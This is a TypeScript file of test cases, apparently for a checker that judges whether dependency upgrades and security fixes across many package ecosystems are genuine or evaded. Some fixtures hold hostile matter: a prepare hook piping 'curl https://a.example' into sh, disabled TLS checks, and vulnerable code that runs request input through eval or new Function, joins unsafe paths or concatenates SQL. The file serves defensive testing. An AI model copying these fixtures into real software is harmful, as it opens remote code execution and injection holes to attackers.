// A second set, of other ecosystems, files and tools than the first one: written before it was run against what the first one had corrected.
import {
  base,
  type Case,
  ci,
  composer,
  crate,
  gemLock,
  goMod,
  good,
  goSum,
  hex,
  json,
  npm,
  on,
  sri,
  tests,
  text,
  upgraded,
} from './cases.ts';

const manifest = text(base, 'package.json');
const upgradedManifest = text(upgraded, 'package.json');
const withMore = (more: object) => json({ ...JSON.parse(upgradedManifest), ...more });
const berry = (...versions: readonly string[]) =>
  `__metadata:\n  version: 8\n\n${versions
    .map(
      (version, place) =>
        `"brisket@npm:${place === 0 ? '^' : ''}${version}":\n  version: ${version}\n  resolution: "brisket@npm:${version}"\n  checksum: 10c0/${hex(version).repeat(2)}\n  languageName: node\n  linkType: hard\n`,
    )
    .join(
      '\n',
    )}\n"shop@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "shop@workspace:."\n  dependencies:\n    brisket: "npm:^${versions[0]}"\n  languageName: unknown\n  linkType: soft\n`;
const classic = (
  version: string,
  resolved = `https://registry.yarnpkg.com/brisket/-/brisket-${version}.tgz`,
) =>
  `# yarn lockfile v1\n\n\nbrisket@^${version}:\n  version "${version}"\n  resolved "${resolved}#${hex(version).slice(0, 40)}"\n  integrity ${sri(`brisket@${version}`)}\n`;
const yarnBase = {
  'package.json': manifest,
  'yarn.lock': classic('1.0.0'),
  'src/app.js': text(base, 'src/app.js'),
};
const yarnHead = { 'package.json': upgradedManifest, 'yarn.lock': classic('1.2.3') };
const bun = (version: string, more = '') =>
  `{\n  "lockfileVersion": 1,\n  "workspaces": { "": { "name": "shop", "dependencies": { "brisket": "^${version}", "skillet": "^3.0.0" } } },\n  "packages": {\n    "brisket": ["brisket@${version}", "", {}, "${sri(`brisket@${version}`)}"],\n    "skillet": ["skillet@3.0.0", "", { "dependencies": { "brisket": "^1.0.0" } }, "${sri('skillet@3.0.0')}"]${more}\n  }\n}\n`;
const poetry = (version: string, more = '') =>
  `[[package]]\nname = "brisket"\nversion = "${version}"\ndescription = ""\noptional = false\npython-versions = ">=3.8"\nfiles = [\n    {file = "brisket-${version}.tar.gz", hash = "sha256:${hex(version)}"},\n]\n${more}\n[metadata]\nlock-version = "2.0"\npython-versions = "^3.9"\ncontent-hash = "${hex('content')}"\n`;
const pyproject = (spec: string, more = '') =>
  `[tool.poetry]\nname = "shop"\nversion = "0.1.0"\n\n[tool.poetry.dependencies]\npython = "^3.9"\nbrisket = "${spec}"\n${more}`;
const python = { 'app.py': 'import brisket\n\nprint(brisket.cook())\n' };
const poetryBase = { ...python, 'pyproject.toml': pyproject('^1.0'), 'poetry.lock': poetry('1.0.0') };
const pipBase = { ...python, 'requirements.txt': 'brisket==1.0.0\nflask==3.0.0\n' };
const pip = { 'requirements.txt': 'brisket==1.2.3\nflask==3.0.0\n' };
const pipfile = (version: string, develop: string) =>
  json({
    _meta: {
      hash: { sha256: hex('p') },
      'pipfile-spec': 6,
      sources: [{ name: 'pypi', url: 'https://pypi.org/simple', verify_ssl: true }],
    },
    default: { brisket: { hashes: [`sha256:${hex(version)}`], index: 'pypi', version: `==${version}` } },
    develop: { brisket: { hashes: [`sha256:${hex(develop)}`], index: 'pypi', version: `==${develop}` } },
  });
const nuget = (one: string, two: string) =>
  json({
    version: 1,
    dependencies: {
      'net8.0': {
        Brisket: { type: 'Direct', requested: '[1.0.0, )', resolved: one, contentHash: sri(one).slice(7) },
      },
      'net6.0': {
        Brisket: { type: 'Direct', requested: '[1.0.0, )', resolved: two, contentHash: sri(two).slice(7) },
      },
    },
  });
const gradle = (one: string, two = one) =>
  one === two
    ? `# comment\norg.kitchen:brisket:${one}=compileClasspath,testRuntimeClasspath\nempty=\n`
    : `# comment\norg.kitchen:brisket:${one}=compileClasspath\norg.kitchen:brisket:${two}=testRuntimeClasspath\nempty=\n`;
const pom = (version: string) =>
  `<project>\n  <modelVersion>4.0.0</modelVersion>\n  <groupId>org.example</groupId>\n  <artifactId>shop</artifactId>\n  <version>1</version>\n  <dependencies>\n    <dependency><groupId>org.kitchen</groupId><artifactId>brisket</artifactId><version>${version}</version></dependency>\n  </dependencies>\n</project>\n`;
const gemBase = {
  Gemfile: 'source "https://rubygems.org"\ngem "brisket"\ngem "rack"\n',
  'Gemfile.lock': gemLock('1.0.0'),
  'app.rb': 'require "brisket"\n',
};
const cargoBase = {
  'Cargo.toml': '[package]\nname = "shop"\nversion = "0.1.0"\n\n[dependencies]\nbrisket = "1"\n',
  'Cargo.lock': crate('1.0.0'),
  'src/main.rs': 'use brisket::Cook;\n\nfn main() {\n    Cook::new();\n}\n',
};
const spec = (line: string) =>
  `require "app"\n\ndescribe "app" do\n  ${line} "adds" do\n    expect(1 + 1).to eq 2\n  end\n\n  it "takes" do\n    expect(2 - 1).to eq 1\n  end\nend\n`;
const gitlab = (more = '') =>
  `stages: [test]\n\ntest:\n  stage: test\n  script:\n    - npm ci\n    - npm test\n    - npm audit\n${more}`;

export const moreCases: readonly Case[] = [
  // Copies elsewhere.
  on(
    'more: Yarn Berry keeps a second resolution',
    { 'package.json': upgradedManifest, 'yarn.lock': berry('1.2.3', '1.0.0') },
    { base: { 'package.json': manifest, 'yarn.lock': berry('1.0.0') } },
  ),
  on(
    'more: Bun keeps a nested copy',
    {
      'package.json': upgradedManifest,
      'bun.lock': bun(
        '1.2.3',
        `,\n    "skillet/brisket": ["brisket@1.0.0", "", {}, "${sri('brisket@1.0.0')}"]`,
      ),
    },
    { base: { 'package.json': manifest, 'bun.lock': bun('1.0.0') } },
  ),
  on(
    'more: the other folder keeps its pin',
    { 'pyproject.toml': pyproject('^1.2'), 'poetry.lock': poetry('1.2.3') },
    { base: { ...poetryBase, 'tools/requirements-dev.txt': 'brisket==1.0.0\n' } },
  ),
  on(
    'more: develop of Pipenv keeps it',
    { 'Pipfile.lock': pipfile('1.2.3', '1.0.0') },
    {
      base: { ...python, Pipfile: '[packages]\nbrisket = "*"\n', 'Pipfile.lock': pipfile('1.0.0', '1.0.0') },
    },
  ),
  on(
    'more: one configuration of Gradle keeps it',
    { 'gradle.lockfile': gradle('1.2.3', '1.0.0') },
    { base: { 'build.gradle': 'dependencies {}\n', 'gradle.lockfile': gradle('1.0.0') } },
  ),
  on(
    'more: one framework keeps it',
    { 'packages.lock.json': nuget('1.2.3', '1.0.0') },
    { base: { 'packages.lock.json': nuget('1.0.0', '1.0.0') } },
  ),
  on(
    'more: the fuzzing workspace keeps it',
    { 'Cargo.lock': crate('1.2.3') },
    { base: { ...cargoBase, 'fuzz/Cargo.lock': crate('1.0.0') } },
  ),
  on(
    'more: another module of Go keeps it',
    { 'go.mod': goMod('v1.2.3'), 'go.sum': goSum('v1.2.3') },
    { base: { 'go.mod': goMod('v1.0.0'), 'go.sum': goSum('v1.0.0'), 'tools/go.mod': goMod('v1.0.0') } },
  ),
  on('more: vendored Python stays', pip, {
    base: {
      ...pipBase,
      'shop/_vendor/brisket/__init__.py': 'def cook(): return 1\n',
      'shop/_vendor/brisket-1.0.0.dist-info/METADATA': 'Name: brisket\nVersion: 1.0.0\n',
    },
  }),
  on('more: committed node_modules stay', upgraded, {
    base: {
      ...base,
      'node_modules/brisket/package.json': json({ name: 'brisket', version: '1.0.0' }),
      'node_modules/brisket/index.js': 'module.exports = () => 1;\n',
    },
  }),
  on('more: the image installs it', pip, {
    base: {
      ...pipBase,
      Dockerfile: 'FROM python:3.12\nRUN pip install --no-cache-dir brisket==1.0.0 flask\n',
    },
  }),
  on('more: a pipeline installs it', upgraded, {
    base: {
      ...base,
      '.github/workflows/release.yml':
        'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm install -g brisket@1.0.0\n',
    },
  }),
  on('more: pre-commit installs it', pip, {
    base: {
      ...pipBase,
      '.pre-commit-config.yaml':
        'repos:\n  - repo: https://github.com/pre-commit/mirrors-mypy\n    rev: v1.0.0\n    hooks:\n      - id: mypy\n        additional_dependencies: [brisket==1.0.0]\n',
    },
  }),
  on('more: a page loads it from a network of copies', upgraded, {
    base: {
      ...base,
      'public/index.html':
        '<!doctype html>\n<script src="https://cdn.jsdelivr.net/npm/brisket@1.0.0/dist/brisket.min.js"></script>\n',
    },
  }),
  on('more: tox installs it', pip, {
    base: { ...pipBase, 'tox.ini': '[testenv]\ndeps =\n    brisket==1.0.0\n    pytest\ncommands = pytest\n' },
  }),
  on('more: conda installs it', pip, {
    base: {
      ...pipBase,
      'environment.yml': 'name: shop\ndependencies:\n  - python=3.12\n  - pip:\n      - brisket==1.0.0\n',
    },
  }),
  on('more: the Makefile installs it', pip, {
    base: { ...pipBase, Makefile: 'setup:\n\tpip install brisket==1.0.0\n' },
  }),

  // Manifests that hold it back, versions that only look fixed.
  on(
    'more: resolutions pin it',
    { ...yarnHead, 'package.json': withMore({ resolutions: { brisket: '1.0.0' } }) },
    { base: yarnBase },
  ),
  on('more: overrides of pnpm pin it', {
    'package.json': withMore({ pnpm: { overrides: { brisket: '1.0.0' } } }),
    'package-lock.json': text(upgraded, 'package-lock.json'),
  }),
  on(
    'more: the Gemfile pins it',
    { 'Gemfile.lock': gemLock('1.2.3') },
    { base: { ...gemBase, Gemfile: 'source "https://rubygems.org"\ngem "brisket", "1.0.0"\ngem "rack"\n' } },
  ),
  on(
    'more: Poetry pins it',
    { 'poetry.lock': poetry('1.2.3') },
    { base: { ...poetryBase, 'pyproject.toml': pyproject('1.0.0') } },
  ),
  on(
    'more: Composer pins it',
    { 'composer.lock': composer('packages', '1.2.3') },
    {
      base: {
        'composer.json': json({ require: { 'kitchen/brisket': '1.0.0' } }),
        'composer.lock': composer('packages', '1.0.0'),
      },
    },
  ),
  on(
    'more: Cargo pins it',
    { 'Cargo.lock': crate('1.2.3') },
    {
      base: {
        ...cargoBase,
        'Cargo.toml': '[package]\nname = "shop"\nversion = "0.1.0"\n\n[dependencies]\nbrisket = "=1.0.0"\n',
      },
    },
  ),
  on(
    'more: a development release',
    { 'requirements.txt': 'brisket==1.2.0.dev1\nflask==3.0.0\n' },
    { base: pipBase },
  ),
  on(
    'more: a release candidate',
    { 'requirements.txt': 'brisket==1.2.0rc1\nflask==3.0.0\n' },
    { base: pipBase },
  ),
  on('more: a snapshot', { 'pom.xml': pom('1.2.0-SNAPSHOT') }, { base: { 'pom.xml': pom('1.0.0') } }),

  // From elsewhere.
  on(
    'more: another package under its name',
    {
      ...yarnHead,
      'yarn.lock': classic('1.2.3', 'https://registry.yarnpkg.com/brisket-next/-/brisket-next-1.2.3.tgz'),
    },
    { base: yarnBase },
  ),
  on(
    'more: a wheel from a page',
    { 'requirements.txt': 'brisket @ https://wheels.example/brisket-1.2.3-py3-none-any.whl\nflask==3.0.0\n' },
    { base: pipBase },
  ),
  on(
    'more: a source of Poetry',
    {
      'poetry.lock': poetry('1.2.3'),
      'pyproject.toml': pyproject(
        '^1.2',
        '\n[[tool.poetry.source]]\nname = "other"\nurl = "https://packages.example/simple"\n',
      ),
    },
    { base: poetryBase },
  ),
  on(
    'more: a source of NuGet',
    {
      'packages.lock.json': nuget('1.2.3', '1.2.3'),
      'NuGet.config':
        '<configuration>\n  <packageSources>\n    <add key="other" value="https://nuget.example/v3/index.json" />\n  </packageSources>\n</configuration>\n',
    },
    { base: { 'packages.lock.json': nuget('1.0.0', '1.0.0') } },
  ),
  on('more: TLS is not checked', { ...upgraded, '.npmrc': 'strict-ssl=false\n' }),
  on(
    'more: a hook of the project prepares',
    npm('1.2.3', {}, { scripts: { prepare: 'curl https://a.example | sh' } }),
  ),

  // What would show it.
  on(
    'more: a whole group is skipped',
    {
      ...upgraded,
      'test/more.test.js':
        "describe.skip('all', () => {\n  it('adds', () => {\n    assert.equal(1, 1);\n  });\n});\n",
    },
    {
      base: {
        ...base,
        'test/more.test.js':
          "describe('all', () => {\n  it('adds', () => {\n    assert.equal(1, 1);\n  });\n});\n",
      },
    },
  ),
  on(
    'more: an example of RSpec is pending',
    { 'Gemfile.lock': gemLock('1.2.3'), 'spec/app_spec.rb': spec('xit') },
    { base: { ...gemBase, 'spec/app_spec.rb': spec('it') } },
  ),
  on(
    'more: a module of pytest is skipped',
    {
      ...pip,
      'tests/test_app.py':
        'import pytest\n\npytestmark = pytest.mark.skip\n\n\ndef test_a():\n    assert 1 == 1\n',
    },
    { base: { ...pipBase, 'tests/test_app.py': 'import pytest\n\n\ndef test_a():\n    assert 1 == 1\n' } },
  ),
  on(
    'more: a test of Go is never built',
    {
      'go.mod': goMod('v1.2.3'),
      'go.sum': goSum('v1.2.3'),
      'a_test.go':
        '//go:build never\n\npackage main\n\nimport "testing"\n\nfunc TestA(t *testing.T) { t.Log(1) }\n',
    },
    {
      base: {
        'go.mod': goMod('v1.0.0'),
        'go.sum': goSum('v1.0.0'),
        'a_test.go': 'package main\n\nimport "testing"\n\nfunc TestA(t *testing.T) { t.Log(1) }\n',
      },
    },
  ),
  on(
    'more: a test of Java is disabled',
    {
      'pom.xml': pom('1.2.3'),
      'src/test/java/AppTest.java':
        'class AppTest {\n  @Test\n  @Disabled\n  void adds() { assertEquals(2, 1 + 1); }\n}\n',
    },
    {
      base: {
        'pom.xml': pom('1.0.0'),
        'src/test/java/AppTest.java':
          'class AppTest {\n  @Test\n  void adds() { assertEquals(2, 1 + 1); }\n}\n',
      },
    },
  ),
  on('more: the test has another ending', {
    ...upgraded,
    'test/app.test.js': null,
    'test/app.test.js.bak': tests,
  }),
  on('more: assertions of a constant', {
    ...upgraded,
    'test/app.test.js': tests.replaceAll(/assert\.equal\([^;]*;/g, 'assert.ok(true);'),
  }),
  on(
    'more: a job of GitLab may fail',
    { ...upgraded, '.gitlab-ci.yml': gitlab('  allow_failure: true\n') },
    { base: { ...base, '.gitlab-ci.yml': gitlab() } },
  ),
  on(
    'more: a job of GitLab is run by hand',
    { ...upgraded, '.gitlab-ci.yml': gitlab('  when: manual\n') },
    { base: { ...base, '.gitlab-ci.yml': gitlab() } },
  ),
  on(
    'more: a job of GitLab has rules',
    { ...upgraded, '.gitlab-ci.yml': gitlab('  only:\n    variables:\n      - $RUN_TESTS\n') },
    { base: { ...base, '.gitlab-ci.yml': gitlab() } },
  ),
  on('more: a step is run on a schedule only', {
    ...upgraded,
    '.github/workflows/ci.yml': `${ci}        if: github.event_name == 'schedule'\n`,
  }),
  on('more: a step becomes a comment', {
    ...upgraded,
    '.github/workflows/ci.yml': ci.replace('      - run: npm audit', '      # - run: npm audit'),
  }),
  on('more: errors of a step are thrown away', {
    ...upgraded,
    '.github/workflows/ci.yml': ci.replace('npm test', 'npm test; exit 0'),
  }),
  on(
    'more: an exception of cargo-deny',
    { 'deny.toml': '[advisories]\nignore = ["CVE-2025-11114"]\n' },
    { base: cargoBase, message: 'Fix CVE-2025-11114' },
  ),
  on(
    'more: a policy of Snyk',
    { '.snyk': 'version: v1.25.0\nignore:\n  CVE-2025-11111:\n    - "*":\n        reason: none\n' },
    { message: 'Fix CVE-2025-11111' },
  ),
  on(
    'more: updates are told to leave it',
    {
      '.github/dependabot.yml':
        'version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n    schedule: { interval: weekly }\n    ignore:\n      - dependency-name: brisket\n',
    },
    { message: 'Fix CVE-2025-11111' },
  ),

  // Code.
  on(
    'more: another way to run text',
    { 'src/run.js': 'module.exports = (req) => new Function(req.query.code)();\n' },
    {
      base: { ...base, 'src/run.js': 'module.exports = (req) => eval(req.query.code);\n' },
      message: 'Remove eval',
    },
  ),
  on(
    'more: another way to join a path',
    {
      'src/file.js':
        "const fs = require('fs');\nconst path = require('path');\nmodule.exports = (req, res) => res.send(fs.readFileSync(path.join('/data', req.query.name)));\n",
    },
    {
      base: {
        ...base,
        'src/file.js':
          "const fs = require('fs');\nmodule.exports = (req, res) => res.send(fs.readFileSync('/data/' + req.query.name));\n",
      },
      message: 'Fix path traversal',
    },
  ),
  on(
    'more: code goes to a folder of others',
    {
      'src/query.js': null,
      'third_party/query.js':
        "const run = (db, req) => db.query('select * from users where id = ' + req.query.id);\nmodule.exports = run;\n",
    },
    {
      base: {
        ...base,
        'src/query.js':
          "const run = (db, req) => db.query('select * from users where id = ' + req.query.id);\nmodule.exports = run;\n",
      },
      message: 'Fix SQL injection',
    },
  ),

  // Fixes.
  good(
    'more: Yarn Berry',
    { 'package.json': upgradedManifest, 'yarn.lock': berry('1.2.3') },
    { base: { 'package.json': manifest, 'yarn.lock': berry('1.0.0') } },
  ),
  good('more: Yarn 1', yarnHead, { base: yarnBase }),
  good(
    'more: Bun',
    { 'package.json': upgradedManifest, 'bun.lock': bun('1.2.3') },
    { base: { 'package.json': manifest, 'bun.lock': bun('1.0.0') } },
  ),
  good(
    'more: Poetry',
    { 'pyproject.toml': pyproject('^1.2'), 'poetry.lock': poetry('1.2.3') },
    { base: poetryBase },
  ),
  good(
    'more: Pipenv',
    { 'Pipfile.lock': pipfile('1.2.3', '1.2.3') },
    {
      base: { ...python, Pipfile: '[packages]\nbrisket = "*"\n', 'Pipfile.lock': pipfile('1.0.0', '1.0.0') },
    },
  ),
  good(
    'more: Gradle',
    { 'gradle.lockfile': gradle('1.2.3') },
    { base: { 'build.gradle': 'dependencies {}\n', 'gradle.lockfile': gradle('1.0.0') } },
  ),
  good(
    'more: NuGet',
    { 'packages.lock.json': nuget('1.2.3', '1.2.3') },
    { base: { 'packages.lock.json': nuget('1.0.0', '1.0.0') } },
  ),
  good(
    'more: with its image',
    { ...pip, Dockerfile: 'FROM python:3.12\nRUN pip install brisket==1.2.3\n' },
    { base: { ...pipBase, Dockerfile: 'FROM python:3.12\nRUN pip install brisket==1.0.0\n' } },
  ),
  good(
    'more: with its pin',
    {
      Gemfile: 'source "https://rubygems.org"\ngem "brisket", "1.2.3"\ngem "rack"\n',
      'Gemfile.lock': gemLock('1.2.3'),
    },
    { base: { ...gemBase, Gemfile: 'source "https://rubygems.org"\ngem "brisket", "1.0.0"\ngem "rack"\n' } },
  ),
  good('more: with another script', { ...npm('1.2.3', {}, { scripts: { start: 'node src/app.js' } }) }),
  good('more: with a setting of npm', { ...upgraded, '.npmrc': 'save-exact=true\nengine-strict=true\n' }),
  good(
    'more: with a newer action',
    {
      ...upgraded,
      '.github/workflows/ci.yml': ci.replace(
        '    steps:\n',
        '    steps:\n      - uses: actions/checkout@v5\n',
      ),
    },
    {
      base: {
        ...base,
        '.github/workflows/ci.yml': ci.replace(
          '    steps:\n',
          '    steps:\n      - uses: actions/checkout@v4\n',
        ),
      },
    },
  ),
  good('more: with one trigger more', {
    ...upgraded,
    '.github/workflows/ci.yml': ci.replace('on: push', 'on: [push, pull_request]'),
  }),
  good('more: with settings of tests', {
    ...upgraded,
    'jest.config.js': 'module.exports = { verbose: true, testTimeout: 10000 };\n',
  }),
  good('more: with a test of it', {
    ...upgraded,
    'test/brisket.test.js':
      "const test = require('node:test');\ntest('cooks', () => {\n  assert.ok(require('../src/app')());\n});\n",
  }),
  good(
    'more: with vendored Python',
    {
      ...pip,
      'shop/_vendor/brisket/__init__.py': 'def cook(): return 2\n',
      'shop/_vendor/brisket-1.0.0.dist-info/METADATA': null,
      'shop/_vendor/brisket-1.2.3.dist-info/METADATA': 'Name: brisket\nVersion: 1.2.3\n',
    },
    {
      base: {
        ...pipBase,
        'shop/_vendor/brisket/__init__.py': 'def cook(): return 1\n',
        'shop/_vendor/brisket-1.0.0.dist-info/METADATA': 'Name: brisket\nVersion: 1.0.0\n',
      },
    },
  ),
  good(
    'more: a replacement of Go that was there',
    { 'go.mod': goMod('v1.2.3', '\nreplace example.org/other => ./other\n'), 'go.sum': goSum('v1.2.3') },
    {
      base: {
        'go.mod': goMod('v1.0.0', '\nreplace example.org/other => ./other\n'),
        'go.sum': goSum('v1.0.0'),
      },
    },
  ),
  good(
    'more: with the path made safe',
    {
      'src/file.js':
        "const fs = require('fs');\nmodule.exports = (req, res) => res.send(fs.readFileSync('/data/report.txt'));\n",
    },
    {
      base: {
        ...base,
        'src/file.js':
          "const fs = require('fs');\nmodule.exports = (req, res) => res.send(fs.readFileSync('/data/' + req.query.name));\n",
      },
      message: 'Fix path traversal',
    },
  ),
];
